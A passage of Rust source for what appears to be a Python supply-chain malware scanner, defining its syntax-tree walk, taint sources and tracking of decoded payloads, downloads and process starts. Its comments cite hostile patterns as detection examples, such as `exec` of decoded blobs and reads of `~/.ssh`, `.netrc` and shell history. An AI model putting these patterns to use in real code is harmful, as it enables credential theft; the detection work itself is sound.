//! The single walk over a module's syntax tree: it keeps scopes (aliases, constants, taint),
//! knows the execution context of every node, and hands calls, strings and statements to the
//! rules in [`crate::rules`].

use foldhash::{HashMap, HashMapExt, HashSet, HashSetExt};
use ruff_python_ast::visitor::{self, Visitor};
use ruff_python_ast::{self as ast, Expr, Stmt};

use ruff_text_size::{Ranged, TextRange};

use crate::context::FileRole;
use crate::deadline::Deadline;
use crate::finding::{ExecContext, Finding, Rule};
use crate::fold::Value;
use crate::resolve::Scopes;
use crate::rules;
use crate::source::LineIndex;

/// Default deepest syntax nesting the walk descends into (`AnalysisOptions::max_syntax_depth`);
/// deeper nodes are skipped with an error note.
pub const MAX_WALK_DEPTH: u32 = 2_000;

/// Where sensitive data entered the code, for the `flows` field.
#[derive(Clone, Debug, PartialEq)]
pub struct SourceRef {
    /// What the data is, e.g. "AWS credentials file".
    pub label: String,
    /// `path:line` of the read.
    pub location: String,
    /// Kind of data, used to weigh flows.
    pub kind: SourceKind,
    /// How many times the data was re-encoded as text on the way (base64, hex; see
    /// [`crate::encoders`]), which the label says too.
    pub encodings: u8,
    /// The data came in through a parameter, from another module's call: a function returning
    /// it returns what each caller gives it, so it is not summarised as the function's own read.
    pub passed_in: bool,
}

/// Kinds of sensitive or untrusted data.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SourceKind {
    /// Credentials, tokens, keys, browser or wallet data.
    Secret,
    /// Host name, user name, IP, OS details.
    SystemInfo,
    /// The whole environment or a non-secret variable.
    Environment,
    /// Bytes received from the network.
    Network,
    /// Decoded (base64, zlib, ...) data.
    Decoded,
    /// The contents of an ordinary local file (a version file read by setup.py, say).
    FileContent,
}

impl SourceKind {
    /// The strength from which a source answers at once; weaker ones wait for a stronger
    /// source inside the same expression.
    pub const STRONG: u8 = 2;

    /// How much a source says about the data: a file's contents least, decoded data a little,
    /// a response names an origin, and what the machine or its user holds says most. When one
    /// expression mixes several (`{'ip': fetched, 'user': getuser()}`) the strongest speaks.
    pub fn strength(self) -> u8 {
        match self {
            SourceKind::FileContent => 0,
            SourceKind::Decoded => 1,
            SourceKind::Network => Self::STRONG,
            SourceKind::Environment => 3,
            SourceKind::SystemInfo => 4,
            SourceKind::Secret => 5,
        }
    }
}

/// Where an argument lands in the called function's parameters.
#[derive(Clone, Debug, PartialEq)]
pub enum ArgSlot {
    /// The n-th positional argument (from 0).
    Position(usize),
    /// A keyword argument.
    Keyword(String),
}

/// Sensitive data one module hands to a function while loading: `emit(title, context())` at
/// the top of `__init__.py`, where `emit` is a sibling module's. The sibling's function is
/// walked again with that parameter carrying the data (see
/// [`crate::CallerContext::passed_in`]).
#[derive(Clone, Debug, PartialEq)]
pub struct PassedSource {
    /// The called name, resolved as the caller imports it (`._runner.emit`).
    pub callee: String,
    /// Which parameter receives it.
    pub slot: ArgSlot,
    /// `path:line` of the call.
    pub call_location: String,
    /// What the argument carries.
    pub source: SourceRef,
}

/// Most functions whose returned source a module keeps (its own and those it imports).
const MAX_RETURN_TAINTS: usize = 1024;

/// Most arguments carrying sensitive data noted per module.
const MAX_PASSED_SOURCES: usize = 64;

/// Facts about a module gathered during the walk, for the `purpose` sentence.
#[derive(Default, Debug)]
pub struct Facts {
    /// First line of the module docstring.
    pub docstring: Option<String>,
    /// Top-level modules imported.
    pub imports: Vec<String>,
    /// Number of functions and classes defined.
    pub functions: usize,
    /// Number of classes defined.
    pub classes: usize,
    /// `setup(name=..., description=...)` arguments when this is a setup script.
    pub setup_name: Option<String>,
    /// `setup(description=...)`.
    pub setup_description: Option<String>,
    /// True when `setup()` was called.
    pub calls_setup: bool,
    /// Functions (and classes) defined at module level, sorted: other modules look names up
    /// in it.
    pub defined_functions: Vec<String>,
    /// Names called from the module's top level that it does not define (imported helpers).
    pub external_calls: Vec<String>,
    /// Modules imported at the top level, relative ones with their leading dots.
    pub top_level_imports: Vec<String>,
    /// Modules and scripts this file starts as programs while loading (`python -m pkg.mod`,
    /// `python helper.py`), as dotted module names.
    pub runs_as_program: Vec<String>,
    /// Module-level `from M import a, b` (or `*`): `M` as written, and the names.
    pub from_imports: Vec<(String, Vec<String>)>,
    /// What other modules can import from this one (see [`crate::exports`]).
    pub exports: crate::exports::Exports,
    /// Names of files whose contents the module executes as code (`exec(open(p).read())`),
    /// for the package to hand their text back (see [`crate::CallerContext::executed_files`]).
    pub executed_files: Vec<String>,
    /// `(module, function)` of the setuptools build hooks a setup script registers (see
    /// [`crate::eager::build_hooks`]): run by every later build in the environment.
    pub build_hooks: Vec<(String, String)>,
    /// The module is a program someone starts, not one imported (see
    /// [`crate::eager::reads_command_line`], [`crate::eager::serves_forever`]): its top level
    /// runs at import only when another module of the package imports it.
    pub runs_as_script: bool,
    /// Modules a setup script registers as test-runner plugins ([`crate::eager::plugin_modules`]):
    /// imported, and their hooks run, by every later test run in the environment.
    pub plugin_modules: Vec<String>,
    /// Sensitive data this module passes to imported functions while loading.
    pub passed_sources: Vec<PassedSource>,
    /// Attribute names the module calls on a plain name other than `self` and `cls` anywhere
    /// (`collect` for `helper.collect()` or `c.collect()`), sorted: which functions of an
    /// `import`ed sibling, and which methods of an imported class, it can use.
    pub attribute_calls: Vec<String>,
}

/// Most multi-line string literals noted in [`Checker::multiline_strings`].
const MAX_MULTILINE_STRINGS: usize = 4_096;

/// Most distinct attribute names noted in [`Facts::attribute_calls`].
const MAX_ATTRIBUTE_CALLS: usize = 4_096;

/// A Python payload found while folding, to be analysed as its own layer.
pub struct Layer {
    /// The decoded text.
    pub text: String,
    /// Line in the carrying file where the decoding happens.
    pub line: u32,
    /// Context the payload would run in.
    pub context: ExecContext,
    /// How it was produced, e.g. "base64 → zlib".
    pub how: String,
    /// Decoder functions of the carrying module: exec runs the payload in the same globals, so
    /// the payload may call them (`exec(_(blob))` whose text calls `_` again).
    pub wrappers: Vec<(String, std::rc::Rc<crate::resolve::Wrapper>)>,
}

/// A file the module saves: where a download goes, or a path Python source is written to.
#[derive(Clone, Debug)]
pub struct SavedFile {
    /// The path as far as it folds; unknown parts are `…`.
    pub path: String,
    /// What was saved there, for messages: "the download of https://…", or
    /// [`SavedFile::PYTHON_SOURCE`].
    pub what: String,
    /// Where it was saved, `file:line`.
    pub location: String,
    /// The variable that held the path, when it was one (`open(file_path, 'wb')`): a later
    /// `subprocess.run([file_path])` names the same file even when the path never folds.
    pub variable: Option<String>,
    /// The function body it was saved in (its `def` line; 0 at module level): a variable
    /// only names the same file within one body.
    pub scope: u32,
}

impl SavedFile {
    /// [`SavedFile::what`] of a file the module wrote Python source into (not a download).
    pub const PYTHON_SOURCE: &'static str = "Python source";

    /// True for a file that received data the module carried encoded (`open(p, 'wb')
    /// .write(b64decode(BLOB))`) rather than a download or Python it wrote.
    pub fn is_unpacked(&self) -> bool {
        self.what
            .strip_prefix("the ")
            .is_some_and(|what| what.starts_with(rules::sources::DECODED_DATA))
    }
}

/// A path a file was opened on: its text as far as it folds, and the variable holding it.
#[derive(Clone, Debug)]
pub struct OpenedPath {
    /// Folded text, `…` for unknown parts.
    pub text: String,
    /// `open(file_path)`: `file_path`.
    pub variable: Option<String>,
}

/// How many saved files one module remembers.
const MAX_SAVED_FILES: usize = 64;

/// A process start whose command named no file saved before it, kept until the walk ends: the
/// function that runs the file may be defined, and so walked, before the one that downloads it.
#[derive(Clone, Debug)]
pub struct PendingStart {
    /// The spawning call.
    pub range: TextRange,
    /// The spawning function's qualified name.
    pub qualname: String,
    /// The command as far as it folds.
    pub command: String,
    /// When the start runs.
    pub context: ExecContext,
    /// The function body it is in.
    pub scope: u32,
    /// The call site it was walked through, when it was reached by inlining a call.
    pub inline_site: Option<u32>,
}

/// State of the walk over one module.
pub struct Checker<'s> {
    /// Files saved so far, for commands that start them (see [`Checker::saved_file_in`]).
    saved_files: Vec<SavedFile>,
    /// Process starts that named no file saved so far (see [`PendingStart`]).
    pending_starts: Vec<PendingStart>,
    /// Replacements of library functions, for [`rules::api_hijack::check_pending`].
    pending_patches: Vec<rules::api_hijack::PendingPatch>,
    /// Functions handed to a websocket client as `on_message=`/`on_data=` callbacks anywhere in
    /// the module, found before the walk (the `def` comes before the client is made).
    message_callbacks: HashSet<&'s str>,
    /// Names each function being walked declares `global`, innermost last.
    global_names: Vec<HashSet<String>>,
    /// True once the module read the clipboard (see the clipper rule).
    read_clipboard: bool,
    /// Walking the value given to a name for documentation (`example = '…'`).
    in_documentation_value: bool,
    /// Inside a collection literal listing endpoints of several kinds (a scanner's table of
    /// paste sites, file hosts and tunnels): indicators to match, not addresses to use.
    in_indicator_table: bool,
    /// The first wallet address literal of the module, with its currency.
    wallet_literal: Option<(String, &'static str)>,
    /// `with open(path, 'wb') as f`: the path each file handle name was last opened on, and
    /// the variable that held it.
    handle_paths: HashMap<String, OpenedPath>,
    /// Names bound to a started process whose output can be read (`p = os.popen(cmd)`), with
    /// the command as far as it folds (see [`Checker::process_command`]).
    process_commands: HashMap<String, String>,
    /// `zipfile.ZipFile(buffer, 'w')` bound to a name: the archive's name and the buffer it
    /// writes into, so what goes into the archive is in the buffer too (`buffer.getvalue()`).
    archive_buffers: HashMap<String, String>,
    /// Sources the functions walked so far return, by name (`.name` for methods): a call of
    /// `get_key()` carries what `get_key` returned (`return requests.get(PASTE).text`).
    return_taints: HashMap<String, usize>,
    /// Keys of `return_taints` bound from sibling modules' exports, not walked here: the
    /// module does not export them again, or every round of the cross-file pass would hand
    /// them back round a cycle of imports with one more "(returned by …)" on the label.
    imported_returns: HashSet<String>,
    /// Sources a sibling module's name brought in: held by this module, never re-exported.
    imported_holdings: HashSet<usize>,
    /// Decodings of values the walk knows nothing of (a parameter, a loop variable over
    /// options): a helper returning one (`def decode_if_base64(s): return b64decode(s)`)
    /// returns what its callers hand it, hidden data only where they hand it a constant.
    opaque_decodes: HashSet<usize>,
    /// Decodings of constants the code carries: what an author hid in it, as opposed to data
    /// it read and unpacked (a downloaded index's zlib section).
    constant_decodes: HashSet<usize>,
    /// Decodings by a standard codec of data the code obtained (an API's token, a response
    /// field): neither a constant it carries nor a parameter it was handed.
    received_decodes: HashSet<usize>,
    /// Names holding the answer of a request to a computed address (see
    /// [`Checker::note_fetch_address`]).
    computed_fetches: HashSet<String>,
    /// See [`Facts::attribute_calls`].
    attribute_calls: HashSet<&'s str>,
    /// Ranges of string literals spanning lines and wide enough to hold an off-screen run of
    /// blanks: what looks like code pushed off-screen inside them is text (a docstring's
    /// table), not code (see `rules::obfuscation_layout`).
    pub multiline_strings: Vec<TextRange>,
    /// Sources held by attributes of the module's classes, as `Class.attribute`: class-body
    /// assignments and `self.attribute = …` in their methods.
    class_attribute_taints: HashMap<String, usize>,
    /// Names bound to Unix-domain sockets (`socket.socket(socket.AF_UNIX)`): local IPC, not
    /// the network.
    local_sockets: HashSet<String>,
    /// Loggers given a handler shipping records to a remote host, by
    /// [`rules::log_shipping::logger_key`], with the handler as shown.
    remote_loggers: HashMap<String, String>,
    /// Names bound to such a handler before it is attached (`h = HTTPHandler(…)`).
    remote_handlers: HashMap<String, String>,
    /// The module's functions returning what they are given re-encoded, with how many
    /// encodings (see [`crate::encoders::encoding_functions`]).
    encoding_functions: HashMap<String, u8>,
    /// How many encoder calls [`Checker::strongest_source_in`] is inside.
    encoding_nesting: u8,
    /// Sources the module stored in environment variables, by variable name.
    env_stash: HashMap<String, usize>,
    /// The strongest source returned so far by each function being walked, innermost last.
    returning: Vec<Option<usize>>,
    /// Display path of the file (with `#layerN` for payloads).
    pub path: &'s str,
    /// The source text.
    pub text: &'s str,
    pub(crate) lines: &'s LineIndex,
    /// Sources stored in `self.<attribute>` anywhere in the file: `self.secret = os.environ[…]`
    /// in `__init__` reaches `requests.get(URL + self.secret)` in another method. Kept per
    /// attribute name for the whole file, as a class's methods share them.
    attribute_taints: HashMap<String, usize>,
    /// Exports of sibling modules this file imports from, by module name as written.
    imported: Vec<(String, crate::exports::Exports)>,
    /// The file's role.
    pub role: FileRole,
    /// Context forced by the caller for a decoded layer's top level.
    layer_context: Option<ExecContext>,
    /// Context of the module's top level when another file imports it (setup.py → install).
    imported_context: Option<ExecContext>,
    /// Another file starts this module as a program, so its `__main__` block runs too.
    run_as_program: bool,
    /// See [`Checker::in_plain_literal_layer`].
    plain_literal_layer: bool,
    /// Functions that another module calls while it loads, and the context it loads in.
    seeds: Vec<String>,
    /// Test-runner plugin hooks this module defines, and how deep the walk is inside one.
    plugin_hooks: Vec<String>,
    /// Sensitive data other modules pass to this module's functions while loading.
    passed_in: Vec<PassedSource>,
    /// Top-level module names of the package's own files (see
    /// [`crate::CallerContext::package_modules`]).
    package_modules: Vec<String>,
    plugin_hook_depth: u32,
    /// The module is a command-line script (see [`crate::eager::reads_command_line`]): its
    /// top level runs when started with arguments, not on import.
    command_line_script: bool,
    /// See [`crate::eager::is_program_with_options`].
    program_with_options: bool,
    /// Texts of package files this module executes, by file name.
    executed_texts: Vec<(String, String)>,
    /// The values a comprehension's loop name takes, innermost last, while its body is walked.
    loop_domains: Vec<(String, Vec<String>)>,
    seed_context: Option<ExecContext>,
    /// Names in scope.
    pub scopes: Scopes,
    /// Evidence found so far.
    pub findings: Vec<Finding>,
    /// Sensitive data read so far.
    pub sources: Vec<SourceRef>,
    /// Network data the last [`Checker::source_in`] met but did not answer with, because a
    /// stronger source was in the same expression (`response.split(hostname)`).
    pub outranked_remote: Option<usize>,
    /// Facts for the report's purpose.
    pub facts: Facts,
    /// Payloads to analyse after the walk.
    pub layers: Vec<Layer>,
    /// Problems met during the walk.
    pub errors: Vec<String>,
    function_depth: u32,
    /// Depth inside functions that run while the module loads (called from its top level).
    eager_depth: u32,
    /// Depth inside `if __name__ == "__main__":` blocks, which run only when executed as a program.
    main_guard_depth: u32,
    /// Depth inside branches (`if`/`elif`/`else` bodies, `try` handlers): an assignment of clean
    /// data there does not forget what the name held, since another branch may have run.
    branch_depth: u32,
    /// Module-level functions called, directly or transitively, from the module's top level.
    eager_functions: HashSet<String>,
    /// Depth inside `try:` bodies whose every handler only passes: errors there are hidden.
    pub(crate) silenced_try_depth: u32,
    /// The host a socket of the module connects to, when the address is written into the
    /// code and is not the machine itself (see `rules::network::note_socket_peer`).
    pub(crate) fixed_socket_peer: Option<String>,
    /// The call that is a whole statement, its result thrown away (`requests.post(...)`).
    pub(crate) discarded_call: Option<TextRange>,
    /// Dict literals bound to plain names in the function being walked (`data = {...}`), for
    /// detectors that read what a request body holds.
    pub(crate) dict_bindings: HashMap<&'s str, &'s ast::ExprDict>,
    /// Names bound to `operator.methodcaller(name, …)` (see [`Checker::method_caller_call`]).
    method_callers: HashMap<&'s str, &'s ast::ExprCall>,
    depth: u32,
    max_depth: u32,
    depth_exceeded: bool,
    deadline: Deadline,
    /// Letters written as escapes inside `str` literals, and where the first one is.
    pub escaped_letters: (usize, usize),
    scope_lines: Vec<u32>,
    /// The functions whose bodies are being walked, innermost last.
    enclosing_functions: Vec<&'s ast::StmtFunctionDef>,
    /// The module-level class being walked, for `Class.method` eager keys.
    class_names: Vec<String>,
    /// setup.py classes that only serve commands a maintainer runs (`sdist`, `upload`), and
    /// how deep the walk is inside one: pip never runs them, so their bodies run "when called".
    author_commands: Vec<String>,
    author_command_depth: u32,
    /// Depth inside setup.py branches taken only for a command pip never gives
    /// (`if sys.argv[-1] == 'publish':`): maintainers' release steps, run "when called".
    maintainer_branch_depth: u32,
    /// Module-level names of a setup script bound to a command-line item (`cmd = sys.argv[1]`).
    argv_item_names: Vec<&'s str>,
    /// Functions of a setup script that only maintainer-command branches call.
    maintainer_only_functions: HashSet<String>,
    /// Module-level functions by name, walked again at call sites that pass constants or
    /// sensitive data (see [`Checker::inline_call`]).
    functions: HashMap<&'s str, &'s ast::StmtFunctionDef>,
    /// Module-level classes by name, for hooks their subclasses run.
    classes: HashMap<&'s str, &'s ast::StmtClassDef>,
    /// Functions whose bodies are being walked for a call site, outermost first.
    inlining: Vec<&'s str>,
    /// Parameters of the innermost function walked for a call site.
    inline_params: Vec<String>,
    /// Context of the outermost call site being inlined: the body runs when its caller does.
    inline_context: Option<ExecContext>,
    /// Function definitions entered inside a body walked for a call site: the call defines
    /// them, and runs them only if it calls them (a decorator factory's `wrapper`).
    inline_nested_definitions: u32,
    /// Line of the outermost call site being inlined, for evidence messages.
    inline_site: Option<u32>,
    /// Source bytes of function bodies that may still be walked again for call sites.
    inline_budget: usize,
    /// What each function walked for a call site returned there, by the call's range, with
    /// the slot of the walk in progress (its body's depth and what it returned so far).
    inlined_returns: HashMap<TextRange, usize>,
    /// Calls walked ahead of the call whose arguments they are (see
    /// [`Checker::inline_argument_calls`]), not to be walked again.
    pre_inlined: HashSet<TextRange>,
    inline_returning: Vec<(u32, Option<usize>)>,
    /// `from __future__ import annotations`: annotations stay strings and never run.
    lazy_annotations: bool,
}

/// Deepest chain of call sites whose callees are walked again (`main()` → `run(cmd)`).
/// Opens the frame of a comprehension read by `source_in` (the names its `for`s bind, inside
/// `parent`) and returns it, or stays in `parent` once 64 frames are open.
fn push_comprehension_frame<'e>(
    frames: &mut Vec<(Vec<&'e str>, usize)>,
    generators: &'e [ast::Comprehension],
    parent: usize,
) -> usize {
    if frames.len() >= 64 {
        return parent;
    }
    let mut names = Vec::new();
    for generator in generators {
        comprehension_targets(&generator.target, &mut names);
    }
    frames.push((names, parent));
    frames.len()
}

/// Root modules of chat-bot frameworks, whose message and command handlers receive what
/// other people send (see `Checker::message_handler_of`).
const CHAT_LIBRARIES: &[&str] = &[
    "discord",
    "nextcord",
    "disnake",
    "interactions",
    "hikari",
    "telebot",
    "telegram",
    "aiogram",
    "pyrogram",
    "telethon",
    "socketio",
];

/// Root modules of web frameworks whose route decorators (`@app.get('/x')`, `@router.post(…)`,
/// `@app.route(…)`) mark functions that serve requests: their parameters are what a visitor
/// sent (path and query values, bodies, the request itself).
const WEB_FRAMEWORKS: &[&str] = &[
    "flask",
    "fastapi",
    "starlette",
    "quart",
    "sanic",
    "bottle",
    "litestar",
    "falcon",
    "ninja",
    "aiohttp",
    "tornado",
    "pyramid",
];

/// Verbs of route decorators (see [`WEB_FRAMEWORKS`]).
const ROUTE_VERBS: &[&str] = &[
    "route",
    "get",
    "post",
    "put",
    "patch",
    "delete",
    "head",
    "options",
    "api_route",
    "websocket",
    "view_config",
];

/// Root modules of web frameworks whose views take the request as a parameter named
/// `request` (Django, Django REST framework, aiohttp, Starlette, Sanic, Pyramid): in a module
/// importing one, that parameter is what a visitor sent.
const REQUEST_PARAMETER_FRAMEWORKS: &[&str] = &[
    "django",
    "rest_framework",
    // aiohttp's client takes requests too: only its server part serves them.
    "aiohttp.web",
    "starlette",
    "sanic",
    "pyramid",
    "ninja",
];

/// Request handler classes of the standard library and Tornado, with the attributes and
/// methods through which a handler reads what the client sent.
const REQUEST_HANDLER_BASES: &[(&str, &[&str])] = &[
    (
        "http.server.",
        &["rfile", "path", "headers", "requestline", "raw_requestline"],
    ),
    ("socketserver.", &["request", "rfile", "data"]),
    ("SocketServer.", &["request", "rfile", "data"]),
    (
        "BaseHTTPServer.",
        &["rfile", "path", "headers", "requestline"],
    ),
    (
        "tornado.web.RequestHandler",
        &[
            "request",
            "get_argument",
            "get_arguments",
            "get_body_argument",
            "get_query_argument",
            "get_cookie",
            "path_args",
        ],
    ),
    ("tornado.websocket.", &["request", "get_argument"]),
];

const MAX_INLINE_DEPTH: usize = 3;
/// Call sites whose inlined return is remembered, per module.
const MAX_INLINED_RETURNS: usize = 4096;
/// Decoded sources marked opaque or constant-born (see `opaque_decodes`), each, per module.
/// Most names [`Checker::note_fetch_address`] remembers.
const MAX_COMPUTED_FETCHES: usize = 256;

const MAX_DECODE_MARKS: usize = 4096;
/// Source bytes of function bodies walked again per file: bounds the extra work on large files.
const INLINE_BUDGET_BYTES: usize = 1 << 20;
/// Largest function body walked again for a call site.
const MAX_INLINED_FUNCTION_BYTES: usize = 32 << 10;

impl<'s> Checker<'s> {
    /// Prepares a walk over `text`.
    pub fn new(
        path: &'s str,
        text: &'s str,
        lines: &'s LineIndex,
        role: FileRole,
        layer_context: Option<ExecContext>,
    ) -> Self {
        Checker {
            saved_files: Vec::new(),
            pending_starts: Vec::new(),
            pending_patches: Vec::new(),
            message_callbacks: HashSet::new(),
            global_names: Vec::new(),
            read_clipboard: false,
            in_documentation_value: false,
            in_indicator_table: false,
            wallet_literal: None,
            handle_paths: HashMap::new(),
            process_commands: HashMap::new(),
            archive_buffers: HashMap::new(),
            return_taints: HashMap::new(),
            imported_returns: HashSet::new(),
            imported_holdings: HashSet::new(),
            opaque_decodes: HashSet::new(),
            constant_decodes: HashSet::new(),
            received_decodes: HashSet::new(),
            computed_fetches: HashSet::new(),
            attribute_calls: HashSet::new(),
            multiline_strings: Vec::new(),
            env_stash: HashMap::new(),
            local_sockets: HashSet::new(),
            remote_loggers: HashMap::new(),
            remote_handlers: HashMap::new(),
            encoding_functions: HashMap::new(),
            encoding_nesting: 0,
            class_attribute_taints: HashMap::new(),
            returning: Vec::new(),
            path,
            text,
            lines,
            role,
            layer_context,
            imported_context: None,
            run_as_program: false,
            plain_literal_layer: false,
            seeds: Vec::new(),
            plugin_hooks: Vec::new(),
            passed_in: Vec::new(),
            package_modules: Vec::new(),
            plugin_hook_depth: 0,
            command_line_script: false,
            program_with_options: false,
            lazy_annotations: false,
            executed_texts: Vec::new(),
            loop_domains: Vec::new(),
            attribute_taints: HashMap::new(),
            imported: Vec::new(),
            seed_context: None,
            scopes: Scopes::default(),
            findings: Vec::new(),
            sources: Vec::new(),
            outranked_remote: None,
            facts: Facts::default(),
            layers: Vec::new(),
            errors: Vec::new(),
            function_depth: 0,
            eager_depth: 0,
            main_guard_depth: 0,
            branch_depth: 0,
            eager_functions: HashSet::new(),
            silenced_try_depth: 0,
            fixed_socket_peer: None,
            discarded_call: None,
            dict_bindings: HashMap::new(),
            method_callers: HashMap::new(),
            depth: 0,
            max_depth: MAX_WALK_DEPTH,
            depth_exceeded: false,
            deadline: Deadline::never(),
            escaped_letters: (0, 0),
            scope_lines: Vec::new(),
            enclosing_functions: Vec::new(),
            class_names: Vec::new(),
            author_commands: Vec::new(),
            author_command_depth: 0,
            maintainer_branch_depth: 0,
            argv_item_names: Vec::new(),
            maintainer_only_functions: HashSet::new(),
            functions: HashMap::new(),
            classes: HashMap::new(),
            inlining: Vec::new(),
            inline_params: Vec::new(),
            inline_context: None,
            inline_nested_definitions: 0,
            inline_site: None,
            inline_budget: INLINE_BUDGET_BYTES,
            inlined_returns: HashMap::new(),
            pre_inlined: HashSet::new(),
            inline_returning: Vec::new(),
        }
    }

    /// Walks a module body.
    pub fn run(&mut self, body: &'s [Stmt]) {
        if let Some(Stmt::Expr(first)) = body.first()
            && let Expr::StringLiteral(doc) = &*first.value
        {
            let line = doc
                .value
                .to_str()
                .lines()
                .map(str::trim)
                .find(|l| !l.is_empty());
            self.facts.docstring = line.map(|l| crate::text::shorten(l, 160));
            // `exec(__doc__)`: the docstring is a constant like any other.
            if doc.value.len() <= self.scopes.max_decode_bytes() {
                self.scopes.bind_constant(
                    "__doc__",
                    crate::fold::Value::Str(doc.value.to_str().to_owned()),
                );
            }
        }
        self.lazy_annotations = body.iter().take(16).any(|stmt| {
            matches!(stmt, Stmt::ImportFrom(import)
                if import.module.as_ref().is_some_and(|m| m.as_str() == "__future__")
                    && import.names.iter().any(|alias| alias.name.as_str() == "annotations"))
        });
        // In a setup script, what only a maintainer's command runs (`if sys.argv[-1] ==
        // 'coverage': serve()`) is no call made while pip installs.
        let (install_body, maintainer_body): (Vec<Stmt>, Vec<Stmt>) =
            if self.role == FileRole::Setup {
                self.argv_item_names = setup_argv_item_names(body);
                let argv_names = &self.argv_item_names;
                body.iter().cloned().partition(|stmt| {
                    !matches!(stmt, Stmt::If(if_stmt)
                    if maintainer_argv_test(&if_stmt.test, argv_names)
                        && if_stmt.elif_else_clauses.iter().all(|clause| {
                            clause
                                .test
                                .as_ref()
                                .is_some_and(|test| maintainer_argv_test(test, argv_names))
                        }))
                })
            } else {
                (Vec::new(), Vec::new())
            };
        let load_body = if self.role == FileRole::Setup {
            install_body.as_slice()
        } else {
            body
        };
        self.eager_functions =
            crate::eager::functions_run_at_load(load_body, &self.seeds, self.run_as_program);
        if !maintainer_body.is_empty() {
            self.maintainer_only_functions = crate::eager::called_names(&maintainer_body, true)
                .into_iter()
                .filter(|name| !self.eager_functions.contains(name))
                .take(64)
                .collect();
        }
        // A module (not an `__init__`, setup script or `.pth`, which are always run) that needs
        // its command-line arguments while loading is a script someone starts with them. So is
        // one kept among the package's data files (`geemap/data/python/example.py`): a sample
        // or template the user copies and runs. Either runs on import all the same when the
        // package's loading code imports it (see `imported_in`).
        self.command_line_script = self.role == FileRole::Module
            && (crate::eager::reads_command_line(body, &self.eager_functions)
                || crate::eager::serves_forever(body)
                || crate::context::in_package_data_folder(self.path));
        self.facts.runs_as_script = self.command_line_script;
        self.program_with_options = crate::eager::is_program_with_options(body, self.text);
        let mut defined = crate::eager::defined_functions(body);
        defined.sort_unstable();
        defined.dedup();
        self.facts.defined_functions = defined;
        self.facts.external_calls =
            crate::eager::external_calls(body, self.role == FileRole::Setup, &self.eager_functions);
        if self.role == FileRole::Setup {
            self.facts.build_hooks = crate::eager::build_hooks(body);
            self.facts.plugin_modules = crate::eager::plugin_modules(body);
        }
        for function in crate::eager::module_level_functions(body) {
            self.functions.insert(function.name.as_str(), function);
        }
        for stmt in body.iter().take(4_096) {
            if let Stmt::ClassDef(class) = stmt {
                self.classes.insert(class.name.as_str(), class);
            }
        }
        // A second walk of the whole tree, only for modules that name such a callback.
        if memchr::memmem::find(self.text.as_bytes(), b"on_message").is_some()
            || memchr::memmem::find(self.text.as_bytes(), b"on_data").is_some()
        {
            self.message_callbacks = crate::eager::message_callbacks(body);
        }
        // Every name of `encoders::ENCODER_NAMES` holds one of these.
        if memchr::memmem::find(self.text.as_bytes(), b"encode").is_some()
            || memchr::memmem::find(self.text.as_bytes(), b"hexlify").is_some()
            || memchr::memmem::find(self.text.as_bytes(), b"b2a_").is_some()
        {
            self.encoding_functions = crate::encoders::encoding_functions(body);
        }
        self.visit_body(body);
        rules::process_spawn::check_pending_starts(self);
        rules::process_spawn::drop_restated_command_literals(&mut self.findings);
        rules::api_hijack::check_pending(self);
        self.facts.exports = self.collect_exports();
        let mut attribute_calls: Vec<String> = self
            .attribute_calls
            .iter()
            .map(|name| (*name).to_owned())
            .collect();
        attribute_calls.sort_unstable();
        self.facts.attribute_calls = attribute_calls;
        rules::obfuscation_layout::check(self);
        if self.depth_exceeded {
            self.errors.push(format!(
                "syntax nested deeper than {} levels; the deepest parts were not analysed",
                self.max_depth
            ));
        }
        if self.scopes.decode_limit_hit() {
            self.errors.push(format!(
                "a decoding step reached the {}-byte output limit; only that much of its output was analysed",
                self.scopes.max_decode_bytes()
            ));
        }
    }

    /// Applies the bounds of `options` and the file's time budget to this walk.
    pub fn bound(&mut self, options: &crate::AnalysisOptions, deadline: Deadline) {
        self.max_depth = options.max_syntax_depth;
        self.deadline = deadline;
        self.scopes.set_max_decode_bytes(options.max_decode_bytes);
    }

    /// The time budget as this walk left it, to hand on to the next layer.
    pub fn deadline(&self) -> Deadline {
        self.deadline
    }

    /// True when `iterable` yields the lines of a local file: an open file (`open(p)`, a
    /// handle bound by `with open(p) as f`), its `readlines()`, or the `splitlines()` of a
    /// file's text (`Path(p).read_text().splitlines()`, `open(p).read().splitlines()`).
    /// The path of an entry of the directory `iterable` lists, with the entry's own name
    /// unknown: `glob.glob('~/.ssh/*')` → `~/.ssh/…`, `os.listdir(d)` and `os.walk(d)` → `d/…`.
    /// Only for listings whose directory is partly known.
    fn listed_entry(&self, iterable: &Expr) -> Option<String> {
        use crate::fold::UNKNOWN;
        let Expr::Call(call) = iterable else {
            return None;
        };
        let qualname = self.scopes.qualname(&call.func)?;
        // The home directory and the root are one character long and the widest listings.
        let listed = |expr: &Expr| {
            rules::partial_text(self, expr).filter(|p| {
                p.len() <= 4_096 && (p.replace(UNKNOWN, "").len() >= 2 || p == "~" || p == "/")
            })
        };
        let under = |directory: String| {
            let separator = if directory.contains('\\') && !directory.contains('/') {
                '\\'
            } else {
                '/'
            };
            let trimmed = directory.trim_end_matches(['/', '\\']);
            format!("{trimmed}{separator}{UNKNOWN}")
        };
        match qualname.as_str() {
            "glob.glob" | "glob.iglob" => Some(rules::sources::glob_path(&listed(
                call.arguments.args.first()?,
            )?)),
            "os.listdir" | "os.scandir" | "os.walk" => {
                Some(under(listed(call.arguments.args.first()?)?))
            }
            _ => {
                let Expr::Attribute(method) = &*call.func else {
                    return None;
                };
                match method.attr.as_str() {
                    "glob" | "rglob" | "iterdir" => Some(under(listed(&method.value)?)),
                    _ => None,
                }
            }
        }
    }

    /// The first credential store a constant list of paths or file names names, as a source
    /// label: `[".bash_history", ".netrc"]` → `shell history (.bash_history, one of 2 listed)`.
    fn listed_credential_store(&self, iterable: &Expr) -> Option<String> {
        let items: Vec<String> = match self.scopes.fold(iterable) {
            Some(crate::fold::Value::Seq(items)) => items
                .iter()
                .filter_map(crate::fold::Value::as_text)
                .collect(),
            Some(crate::fold::Value::Str(text)) => vec![text],
            // `(os.path.expanduser('~/.thunderbird'), os.path.join(appdata, 'Thunderbird'))`:
            // paths written out in place, known as far as they fold.
            _ => match iterable {
                Expr::Tuple(ast::ExprTuple { elts, .. })
                | Expr::List(ast::ExprList { elts, .. }) => elts
                    .iter()
                    .take(64)
                    .filter_map(|item| rules::partial_text(self, item))
                    .collect(),
                _ => return None,
            },
        };
        items.iter().take(256).find_map(|text| {
            // Glob patterns (`~/Documents/*.pdf`) name the folder they list.
            let label = rules::sources::secret_path_label(&rules::sources::glob_path(text))?;
            Some(format!(
